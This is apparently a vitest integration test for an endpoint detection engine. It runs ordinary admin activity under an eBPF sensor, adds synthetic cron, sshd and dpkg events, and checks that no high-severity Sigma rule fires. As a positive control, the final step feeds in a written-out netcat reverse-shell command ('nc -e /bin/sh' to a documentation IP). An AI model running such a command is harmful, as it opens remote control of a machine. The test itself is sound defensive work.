import { spawn } from "node:child_process";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { compileRules, DetectionEngine, toSigmaEvent, BUILTIN_RULES, type Match } from "@vigil/detection";
import { AuthAction, Direction, Event, FileAction, NetworkAction, ProcessAction } from "@vigil/proto";
import { EbpfHelper, EbpfNetworkSensor, EbpfProcessSensor, FileAttribution } from "../../../agent/src/sensors/ebpf";
import { FileSensor } from "../../../agent/src/sensors/file";
import { applyPackPolicy, packSources } from "../../src/sigmahq/pack";
import { SIGMAHQ_BUNDLED_PACK } from "../../src/sigmahq/bundled-pack";

type EventBody = NonNullable<Event["body"]>;

/**
 * Ordinary admin and developer activity, run for real under the eBPF kernel sensor (process
 * execs with argv and parent, connections with their process, file writes with their writer),
 * then through toSigmaEvent and the built-in + SigmaHQ pack with Vigil's overrides: nothing may
 * match at level high or above. cron and sshd are not installed on this machine, so their process
 * trees and log lines (and a dpkg maintainer-script run, which would change the system) are written
 * here as Debian's cron, OpenSSH, sudo and dpkg produce them and go through the same engine.
 * Needs root and a BTF kernel (as the eBPF sensor test); skips with the reason otherwise.
 */
const ROOT = resolve(__dirname, "../../..");
const HELPER = join(ROOT, "dist/vigil-ebpf");
const ESBUILD = join(ROOT, "node_modules/@esbuild/linux-x64/bin/esbuild");
const TSC = join(ROOT, "node_modules/typescript/bin/tsc");

function unavailable(): string | null {
  if (process.getuid?.() !== 0) return "not root (loading BPF programs needs CAP_BPF + CAP_PERFMON)";
  if (!existsSync("/sys/kernel/btf/vmlinux")) return "kernel without BTF";
  if (!existsSync(HELPER)) return process.env.CI ? null : "dist/vigil-ebpf not built (clang, bpftool, libbpf-dev missing)";
  return null;
}
const skipReason = unavailable();
if (skipReason) console.log(`SKIP benign workload under eBPF: ${skipReason}`);

/** The admin session: package tooling, git, node/tsc/esbuild and an offline `npm ci` in /tmp, everyday inspection commands. */
function workload(work: string, port: number): string {
  return `
set +e
cd ${work}
# package tooling (read-only or simulated: nothing is installed)
dpkg -l bash coreutils > /dev/null
dpkg --audit
dpkg -S /bin/ls > /dev/null
apt-cache policy bash > /dev/null
apt-get -s install --reinstall bash > /dev/null 2>&1
apt-get -s upgrade > /dev/null 2>&1
# git
git init -q repo && cd repo
git config user.email ci@example.org && git config user.name ci
mkdir -p src && echo 'export const x: number = 1; console.log(x);' > src/index.ts
echo '{"compilerOptions":{"outDir":"out","strict":true,"skipLibCheck":true,"types":[]},"include":["src"]}' > tsconfig.json
git add . && git commit -qm init && git log --oneline > /dev/null && git status --short && git diff HEAD
git branch feature && git checkout -q feature && git tag v1 && git checkout -q -
cd ${work} && git clone -q repo clone && git -C clone fetch -q origin && git -C clone pull -q
# node, tsc and esbuild building in /tmp
node -e "require('node:http'); console.log(process.version)" > /dev/null
node ${TSC} -p repo/tsconfig.json
${ESBUILD} repo/src/index.ts --bundle --platform=node --outfile=repo/dist/app.js --log-level=warning
node repo/dist/app.js > /dev/null
# an npm ci of a project without dependencies (offline, nothing fetched)
mkdir -p app && cd app && echo '{"name":"app","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{"":{"name":"app","version":"1.0.0"}}}' > package-lock.json
echo '{"name":"app","version":"1.0.0","scripts":{"build":"node -e 1"}}' > package.json
npm ci --offline --no-audit --no-fund --loglevel=error > /dev/null && npm run -s build
cd ${work}
# what cron's daily job would run, without running it
run-parts --test /etc/cron.daily > /dev/null
# everyday inspection
id > /dev/null; whoami > /dev/null; hostname > /dev/null; uname -a > /dev/null; uptime > /dev/null
ps aux > /dev/null; df -h > /dev/null; free -m > /dev/null; ip addr > /dev/null; ss -tlnp > /dev/null
systemctl --version > /dev/null; journalctl --version > /dev/null
cat /etc/os-release > /dev/null; ls -la /etc > /dev/null; awk -F: '{print $1}' /etc/passwd > /dev/null
grep -r console repo/src > /dev/null; find repo -name '*.ts' > /dev/null; sed -n 1p repo/src/index.ts > /dev/null
tar czf repo.tgz repo && tar tzf repo.tgz > /dev/null && sha256sum repo.tgz > /dev/null
chmod 644 repo/dist/app.js && cp repo.tgz /tmp/vigil-benign-copy.tgz && rm -f /tmp/vigil-benign-copy.tgz
curl -s http://127.0.0.1:${port}/health > /dev/null
wget -q -O /dev/null http://127.0.0.1:${port}/health
bash -lc true
rm -rf clone
exit 0
`;
}

const proc = (t: number, pid: number, ppid: number, exe: string, commandLine: string, parentExe: string, parentCommandLine: string, user = "root"): EventBody =>
  ({
    $case: "process",
    process: { action: ProcessAction.PROCESS_ACTION_START, pid, ppid, exe, commandLine, parentExe, parentCommandLine, user, uid: user === "root" ? 0 : 1000, name: exe.split("/").pop()!, cwd: "/" },
  }) as EventBody;
const file = (path: string, exe: string): EventBody =>
  ({
    $case: "file",
    file: { action: FileAction.FILE_ACTION_CREATE, path, oldPath: "", sha256After: "", sha256Before: "", size: 100, mode: 0o644, modeBefore: 0, uid: 0, gid: 0, exe, pid: 7000, user: "root" },
  }) as EventBody;

const auth = (action: AuthAction, service: string, user: string, raw: string, extra: Record<string, unknown> = {}): EventBody =>
  ({
    $case: "auth",
    auth: { action, user, targetUser: "", groupName: "", sourceIp: "", sourcePort: 0, method: "", pid: 6001, service, command: "", tty: "", hostname: "web1", raw, ...extra },
  }) as EventBody;
const log = (program: string, message: string): EventBody =>
  ({ $case: "log", log: { log: "syslog", program, pid: 5001, hostname: "web1", message, raw: `Dec  3 10:00:01 web1 ${program}[5001]: ${message}` } }) as EventBody;

/** The auth.log and syslog lines of the same session, as Debian's sshd, PAM, sudo, cron and useradd write them. */
function writtenLogs(): EventBody[] {
  return [
    auth(AuthAction.AUTH_ACTION_LOGIN_SUCCESS, "sshd", "alice", "Accepted publickey for alice from 10.0.0.5 port 52144 ssh2: ED25519 SHA256:Zm9vYmFyYmF6", {
      sourceIp: "10.0.0.5",
      sourcePort: 52144,
      method: "publickey",
    }),
    auth(AuthAction.AUTH_ACTION_SESSION_OPEN, "sshd", "alice", "pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)", { method: "pam_unix" }),
    auth(AuthAction.AUTH_ACTION_SUDO, "sudo", "alice", "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get install -y nginx", {
      targetUser: "root",
      command: "/usr/bin/apt-get install -y nginx",
      tty: "pts/0",
    }),
    auth(AuthAction.AUTH_ACTION_SESSION_OPEN, "sudo", "root", "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)", { method: "pam_unix" }),
    auth(AuthAction.AUTH_ACTION_ACCOUNT_CREATED, "useradd", "www-data", "new user: name=nginx, UID=998, GID=998, home=/nonexistent, shell=/usr/sbin/nologin, from=none"),
    auth(AuthAction.AUTH_ACTION_SESSION_CLOSE, "sshd", "alice", "pam_unix(sshd:session): session closed for user alice", { method: "pam_unix" }),
    log("CRON", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)"),
    log("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
    log("systemd", "Starting nginx.service - A high performance web server and a reverse proxy server..."),
    log("systemd", "Started nginx.service - A high performance web server and a reverse proxy server."),
    log("kernel", 'audit: type=1400 audit(1733220001.123:42): apparmor="STATUS" operation="profile_replace" name="nginx"'),
  ];
}

/** Process trees as Debian's cron, OpenSSH and dpkg write them (not installed or not to be run here). */
function writtenTrees(t: number): EventBody[] {
  const SH = "/usr/bin/dash";
  return [
    // cron running the hourly and daily jobs
    proc(t, 5001, 900, SH, "/bin/sh -c    cd / && run-parts --report /etc/cron.hourly", "/usr/sbin/cron", "/usr/sbin/cron -f"),
    proc(t, 5002, 5001, "/usr/bin/run-parts", "run-parts --report /etc/cron.hourly", SH, "/bin/sh -c    cd / && run-parts --report /etc/cron.hourly"),
    proc(t, 5003, 900, SH, "/bin/sh -c test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", "/usr/sbin/cron", "/usr/sbin/cron -f"),
    proc(t, 5004, 5003, "/usr/bin/run-parts", "run-parts --report /etc/cron.daily", SH, "/bin/sh -c test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }"),
    proc(t, 5005, 5004, SH, "/bin/sh /etc/cron.daily/logrotate", "/usr/bin/run-parts", "run-parts --report /etc/cron.daily"),
    proc(t, 5006, 5005, "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", SH, "/bin/sh /etc/cron.daily/logrotate"),
    proc(t, 5007, 5004, SH, "/bin/sh /etc/cron.daily/dpkg", "/usr/bin/run-parts", "run-parts --report /etc/cron.daily"),
    proc(t, 5008, 5007, "/usr/bin/cp", "cp -p /var/lib/dpkg/status /var/backups/dpkg.status.0", SH, "/bin/sh /etc/cron.daily/dpkg"),
    proc(t, 5009, 5004, SH, "/bin/sh /etc/cron.daily/man-db", "/usr/bin/run-parts", "run-parts --report /etc/cron.daily"),
    proc(t, 5010, 5009, "/usr/bin/find", "find /var/cache/man -type f -name *.gz -atime +6 -print0", SH, "/bin/sh /etc/cron.daily/man-db"),
    // an SSH login: sshd's privilege-separated children, the login shell and what /etc/profile and .bashrc run
    proc(t, 6001, 800, "/usr/sbin/sshd", "sshd: alice [priv]", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
    proc(t, 6002, 6001, "/usr/sbin/sshd", "sshd: alice@pts/0", "/usr/sbin/sshd", "sshd: alice [priv]", "alice"),
    proc(
      t,
      6003,
      6001,
      SH,
      "sh -c /usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d > /run/motd.dynamic.new",
      "/usr/sbin/sshd",
      "sshd: alice [priv]",
    ),
    proc(
      t,
      6004,
      6003,
      "/usr/bin/env",
      "/usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d",
      SH,
      "sh -c /usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d > /run/motd.dynamic.new",
    ),
    proc(
      t,
      6005,
      6004,
      "/usr/bin/run-parts",
      "run-parts --lsbsysinit /etc/update-motd.d",
      "/usr/bin/env",
      "/usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d",
    ),
    proc(t, 6006, 6005, "/usr/bin/uname", "uname -snrvm", "/usr/bin/run-parts", "run-parts --lsbsysinit /etc/update-motd.d"),
    proc(t, 6007, 6002, "/usr/bin/bash", "-bash", "/usr/sbin/sshd", "sshd: alice@pts/0", "alice"),
    proc(t, 6008, 6007, "/usr/bin/id", "id -u", "/usr/bin/bash", "-bash", "alice"),
    proc(t, 6009, 6007, "/usr/bin/lesspipe", "/usr/bin/lesspipe", "/usr/bin/bash", "-bash", "alice"),
    proc(t, 6010, 6009, "/usr/bin/basename", "basename /usr/bin/lesspipe", "/usr/bin/lesspipe", "/usr/bin/lesspipe", "alice"),
    proc(t, 6011, 6007, "/usr/bin/dircolors", "dircolors -b", "/usr/bin/bash", "-bash", "alice"),
    proc(t, 6012, 6007, "/usr/bin/mesg", "mesg n", "/usr/bin/bash", "-bash", "alice"),
    proc(t, 6013, 6007, "/usr/bin/sudo", "sudo -i", "/usr/bin/bash", "-bash", "alice"),
    proc(t, 6014, 6013, "/usr/bin/bash", "-bash", "/usr/bin/sudo", "sudo -i"),
    // an apt-get install and the dpkg maintainer scripts it runs
    proc(t, 7001, 6014, "/usr/bin/apt-get", "apt-get install -y nginx", "/usr/bin/bash", "-bash"),
    proc(
      t,
      7002,
      7001,
      "/usr/bin/dpkg",
      "/usr/bin/dpkg --status-fd 37 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/nginx_1.22.1-9_amd64.deb",
      "/usr/bin/apt-get",
      "apt-get install -y nginx",
    ),
    proc(t, 7003, 7001, "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 37 --configure --pending", "/usr/bin/apt-get", "apt-get install -y nginx"),
    proc(t, 7004, 7003, SH, "/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure", "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 37 --configure --pending"),
    proc(t, 7005, 7004, "/usr/sbin/adduser", "/usr/bin/perl -w /usr/sbin/adduser --system --group --no-create-home www-data", SH, "/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure"),
    proc(t, 7006, 7004, "/usr/bin/chmod", "chmod 640 /var/log/nginx/access.log", SH, "/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure"),
    proc(t, 7007, 7004, "/usr/bin/chown", "chown root:adm /var/log/nginx", SH, "/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure"),
    proc(t, 7008, 7004, "/usr/bin/deb-systemd-helper", "/usr/bin/perl /usr/bin/deb-systemd-helper enable nginx.service", SH, "/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure"),
    proc(t, 7009, 7004, "/usr/bin/systemctl", "systemctl --system daemon-reload", SH, "/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure"),
    proc(t, 7010, 7004, "/usr/sbin/invoke-rc.d", "/bin/sh /usr/sbin/invoke-rc.d nginx start", SH, "/bin/sh /var/lib/dpkg/info/nginx-common.postinst configure"),
    proc(t, 7011, 7003, "/usr/sbin/ldconfig", "/sbin/ldconfig", "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 37 --configure --pending"),
    proc(
      t,
      7012,
      7003,
      "/usr/bin/update-alternatives",
      "update-alternatives --install /usr/sbin/nginx nginx /usr/sbin/nginx-full 100",
      "/usr/bin/dpkg",
      "/usr/bin/dpkg --status-fd 37 --configure --pending",
    ),
    file("/lib/systemd/system/nginx.service", "/usr/bin/dpkg"),
    file("/etc/logrotate.d/nginx", "/usr/bin/dpkg"),
    file("/etc/cron.daily/apt-compat", "/usr/bin/dpkg"),
    file("/etc/profile.d/bash_completion.sh", "/usr/bin/dpkg"),
    file("/usr/sbin/nginx", "/usr/bin/dpkg"),
    file("/var/lib/dpkg/info/nginx-common.list", "/usr/bin/dpkg"),
  ];
}

describe.skipIf(skipReason !== null)("benign admin workload through the built-in + SigmaHQ pack", () => {
  const work = mkdtempSync(join(tmpdir(), "vigil-benign-"));
  let helper: EbpfHelper;
  let procs: EbpfProcessSensor;
  let net: EbpfNetworkSensor;
  let files: FileSensor;
  let server: Server;
  const sink: { body: EventBody; timeMs: number }[] = [];
  const record = { emit: (body: EventBody, timeMs: number) => sink.push({ body, timeMs }) };

  beforeAll(async () => {
    helper = new EbpfHelper({ path: HELPER, prefixes: [`${work}/`] });
    procs = new EbpfProcessSensor(helper);
    net = new EbpfNetworkSensor(helper, procs);
    await procs.start(record);
    await net.start(record);
    const attribution = new FileAttribution(helper, procs);
    attribution.start();
    files = new FileSensor({ paths: [work], settleMs: 20, attribute: (p) => attribution.lookup(p) });
    await files.start(record);
    server = createServer((_q, s) => s.end("ok"));
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  });

  afterAll(async () => {
    server?.close();
    await files?.stop();
    await net?.stop();
    await procs?.stop();
    await helper?.stop();
    rmSync(work, { recursive: true, force: true });
  });

  it("raises nothing at level high or above", async () => {
    const port = (server.address() as { port: number }).port;
    const script = join(work, "session.sh");
    writeFileSync(script, workload(work, port));
    const child = spawn("bash", [script], { stdio: "ignore", env: { ...process.env, HOME: work, npm_config_cache: join(work, ".npm") } });
    const rootPid = child.pid!;
    expect(await new Promise((r) => child.on("exit", r))).toBe(0);
    // The sensor sees the whole machine (other tests run beside this one): keep our session's tree only.
    const ours = (): EventBody[] => {
      const tree = new Set([rootPid]);
      const starts = sink.flatMap((e) => (e.body.$case === "process" && e.body.process.action === ProcessAction.PROCESS_ACTION_START ? [e.body.process] : []));
      for (let grew = true; grew;) {
        grew = false;
        for (const p of starts) if (tree.has(p.ppid) && !tree.has(p.pid)) grew = tree.add(p.pid) !== undefined;
      }
      return sink
        .map((e) => e.body)
        .filter(
          (b) =>
            (b.$case === "process" && b.process.action === ProcessAction.PROCESS_ACTION_START && tree.has(b.process.pid)) || (b.$case === "network" && tree.has(b.network.pid)) || b.$case === "file",
        );
    };
    const wait = Date.now() + 10_000;
    const done = (all: EventBody[]) =>
      all.some((b) => b.$case === "process" && b.process.commandLine.startsWith("rm -rf clone")) &&
      (!existsSync("/usr/bin/curl") || all.some((b) => b.$case === "network" && b.network.exe.endsWith("/curl")));
    while (Date.now() < wait && !done(ours())) await new Promise((r) => setTimeout(r, 50));
    const captured = ours();
    const count = (k: string) => captured.filter((b) => b.$case === k).length;
    console.log(
      `benign workload: ${count("process")} execs, ${count("network")} connections, ${count("file")} file events captured; ${writtenTrees(0).length} process/file events and ${writtenLogs().length} auth/syslog lines written (cron, sshd, sudo, dpkg)`,
    );
    expect(count("process")).toBeGreaterThan(60);
    expect(captured.some((b) => b.$case === "process" && b.process.exe.endsWith("/git") && b.process.parentExe.endsWith("/bash"))).toBe(true);
    if (existsSync("/usr/bin/curl"))
      expect(
        captured.some(
          (b) => b.$case === "network" && b.network.direction === Direction.DIRECTION_OUTBOUND && b.network.action === NetworkAction.NETWORK_ACTION_OPEN && b.network.exe.endsWith("/curl"),
        ),
      ).toBe(true);
    else console.log("no /usr/bin/curl here: the session made no connection to check");

    const { ruleset, errors } = compileRules([...BUILTIN_RULES, ...packSources({ ...SIGMAHQ_BUNDLED_PACK, origin: "bundled" })]);
    expect(errors).toEqual([]);
    const quiet = applyPackPolicy(ruleset, SIGMAHQ_BUNDLED_PACK.overrides);
    const engine = new DetectionEngine(ruleset);
    const t = Date.now();
    const matches: Match[] = [];
    [...captured, ...writtenTrees(t), ...writtenLogs()].forEach((body, i) => {
      const ev = toSigmaEvent(Event.fromPartial({ seq: i + 1, eventTimeMs: t + i, body }), { agentId: "benign", hostname: "benign" });
      if (ev) matches.push(...engine.process(ev));
    });
    matches.push(...engine.flush());
    const summary = matches.map(
      (m) =>
        `${m.rule.level}${quiet.has(m.rule.id) ? " (quiet)" : ""} ${m.rule.title} <- ${String(m.events[0]?.fields.CommandLine ?? m.events[0]?.fields.TargetFilename ?? m.events[0]?.fields.Image ?? "")}`,
    );
    console.log(`benign workload matches (${matches.length}):\n  ${[...new Set(summary)].join("\n  ") || "none"}`);
    expect(summary.filter((s) => /^(high|critical)/.test(s))).toEqual([]);

    // The same engine does fire on the real thing: a netcat reverse shell after the session.
    const shell = toSigmaEvent(
      Event.fromPartial({ seq: 99_999, eventTimeMs: t + 99_999, body: proc(t, 9001, 6007, "/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.7 4444", "/usr/bin/bash", "-bash") }),
      { agentId: "benign", hostname: "benign" },
    )!;
    const fired = engine.process(shell).map((m) => m.rule.level);
    expect(fired).toContain("high");
  }, 60_000);
});
